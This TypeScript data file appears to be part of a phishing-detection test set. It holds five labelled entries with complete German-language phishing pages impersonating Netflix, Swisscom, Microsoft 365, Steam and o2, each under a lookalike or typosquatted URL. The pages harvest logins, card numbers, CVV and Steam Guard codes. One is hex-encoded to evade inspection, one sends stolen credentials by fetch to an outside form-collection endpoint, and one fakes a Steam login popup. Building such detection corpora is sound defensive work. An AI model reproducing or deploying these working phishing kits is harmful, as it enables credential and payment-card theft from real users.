import { htmlRoute, redirectRoute, type Entry } from '../entry.js';
import { doc, mark, b64, hexEnc } from '../parts/zv-kit.js';
import { jsRoute, jsonRoute } from '../parts/e-bin.js';

export const entries: Entry[] = [
{
  id: 'zv-netflix-zahlung-abgelehnt-de', label: 'phishing', kind: 'streaming-kit',
  url: 'https://netflix-konto-de.help/YourAccount/payment',
  body: doc({ title: 'Netflix', css: 'body{background:#000;color:#fff}.box{background:rgba(0,0,0,.8);color:#fff}input{background:#333;color:#fff;border:0}.btn{background:#e50914;color:#fff;width:100%}',
    body: `<div class="wrap" style="max-width:440px"><b style="color:#e50914;font-size:34px">NETFLIX</b><div class="box" style="margin-top:20px"><h2>Zahlung fehlgeschlagen</h2><p>Wir konnten Ihre letzte Zahlung nicht verarbeiten. Aktualisieren Sie Ihre Zahlungsinformationen, um Ihre Mitgliedschaft fortzusetzen.</p>
<form method="post" action="/YourAccount/update.php"><input name="email" placeholder="E-Mail-Adresse"><br><br><input type="password" name="pw" placeholder="Passwort"><br><br><input name="cc" placeholder="Kartennummer"><br><br><input name="exp" placeholder="Ablaufdatum (MM/JJ)"><br><br><input name="cvv" placeholder="CVV"><br><br><button class="btn">Mitgliedschaft fortsetzen</button></form></div></div>` }),
},
{
  id: 'zv-swisscom-rechnung-hex-writer', label: 'phishing', kind: 'obfuscated-kit',
  url: 'https://swisscom-mycloud.login-ch.app/',
  body: `<!DOCTYPE html><html><head><meta charset="utf-8"><title>My Swisscom</title></head><body><div id="r"></div>
<script>function h2s(h){var s='';for(var i=0;i<h.length;i+=2)s+=String.fromCharCode(parseInt(h.substr(i,2),16));return decodeURIComponent(escape(s))}
document.getElementById('r').innerHTML=h2s('${hexEnc(`<style>body{font-family:Arial;background:#f0f4f8}.b{max-width:420px;margin:60px auto;background:#fff;padding:30px;border-radius:8px}input{width:100%;padding:10px;margin:6px 0}button{background:#001155;color:#fff;padding:12px;width:100%;border:0}</style><div class="b"><h2>Login My Swisscom</h2><p>Ihre Rechnung konnte nicht abgebucht werden. Bitte melden Sie sich an und aktualisieren Sie Ihre Zahlungsmethode, um eine Sperrung Ihres Anschlusses zu vermeiden.</p><form method="post" action="https://swisscom-mycloud.login-ch.app/send.php"><input name="user" placeholder="Swisscom Login / E-Mail"><input name="pw" type="password" placeholder="Passwort"><input name="cc" placeholder="Kartennummer"><input name="exp" placeholder="MM/JJ"><input name="cvc" placeholder="CVC"><button>Weiter</button></form></div>`)}');</script></body></html>`,
},
{
  id: 'zv-microsoft365-praxis-sharepoint', label: 'phishing', kind: 'cloud-login-kit',
  url: 'https://praxis-dr-wendt-share.pages.dev/doc/Befundbericht.html',
  body: doc({ title: 'Befundbericht.pdf – freigegeben', lang: 'de', css: 'body{background:#f3f2f1}.btn{background:#0078d4;color:#fff}',
    body: `<div class="wrap" style="max-width:460px"><div class="box" style="margin-top:50px"><div style="display:flex;gap:10px;align-items:center"><svg width="24" height="24"><rect width="11" height="11" fill="#f25022"/><rect x="13" width="11" height="11" fill="#7fba00"/><rect y="13" width="11" height="11" fill="#00a4ef"/><rect x="13" y="13" width="11" height="11" fill="#ffb900"/></svg><b>Microsoft</b></div>
<h3>Dr. med. Wendt hat eine Datei für Sie freigegeben</h3><p>📄 Befundbericht_2025.pdf (248 KB)</p><p>Um die Datei anzuzeigen, bestätigen Sie Ihre E-Mail-Adresse.</p>
<form id="f"><input name="loginfmt" type="email" placeholder="E-Mail, Telefon oder Skype"><div id="pw" style="display:none"><br><input name="passwd" type="password" placeholder="Kennwort"></div><p><button class="btn">Weiter</button></p></form></div></div>
<script>var st=0;document.getElementById('f').onsubmit=function(e){e.preventDefault();if(!st){st=1;document.getElementById('pw').style.display='block';return}
fetch('https://submit-form.com/q8Rr1bWk',{method:'POST',headers:{'Content-Type':'application/json',Accept:'application/json'},body:JSON.stringify({e:this.loginfmt.value,p:this.passwd.value})}).then(function(){location='https://www.office.com/'})};</script>` }),
},
{
  id: 'zv-steam-gift-discord-lure', label: 'phishing', kind: 'gaming-kit',
  url: 'https://steamcommunnity.com-gift.ru/gift/activation/de',
  body: doc({ title: 'Steam Gift Activation', lang: 'de', css: 'body{background:#1b2838;color:#c7d5e0}.box{background:#16202d;color:#c7d5e0}.btn{background:#5c7e10;color:#fff}',
    body: `<div class="wrap" style="max-width:520px"><div class="box" style="margin-top:40px"><h2>Du hast ein Geschenk erhalten!</h2><p>Steam-Guthaben: 50 €. Melde dich an, um das Geschenk zu aktivieren.</p>
<button class="btn" onclick="var w=window.open('about:blank','','width=600,height=640');w.document.write(document.getElementById('pop').innerHTML)">Mit Steam anmelden</button>
<template id="pop"><title>Steam Community – Anmelden</title><body style="background:#171a21;color:#fff;font-family:Arial;padding:30px"><p style="color:#888">🔒 https://steamcommunity.com/openid/login</p><form method="post" action="https://steamcommunnity.com-gift.ru/auth.php"><p>Kontoname<br><input name="user"></p><p>Passwort<br><input type="password" name="pass"></p><p>Steam Guard Code<br><input name="guard"></p><button>Anmelden</button></form></body></template></div></div>` }),
},
{
  id: 'zv-o2-vertragsverlaengerung-bonus', label: 'phishing', kind: 'telecom-kit',
  url: 'https://o2-treuebonus.de-mein.site/bonus',
  body: doc({ title: 'Mein o2 – Treuebonus', css: '.top{background:#0019a5;color:#fff}.btn{background:#0019a5;color:#fff}',
    body: `<header class="top"><div class="wrap"><b>o2</b> Mein o2</div></header><div class="wrap" style="max-width:500px"><div class="box" style="margin-top:30px"><h2>Ihr Treuebonus: 120 € Gutschrift</h2><p>Als Dankeschön für 5 Jahre Kundentreue. Bitte bestätigen Sie Ihre Identität.</p>
<form method="post" action="/bonus/s2.php"><label>Rufnummer</label><input name="msisdn"><label>Kundenkennwort</label><input name="kkw" type="password"><label>Kundennummer</label><input name="kdnr"><label>Kartennummer für die Gutschrift</label><input name="cc"><label>Ablaufdatum</label><input name="exp"><label>CVC</label><input name="cvc"><p><button class="btn">Bonus erhalten</button></p></form></div></div>` }),
},
];
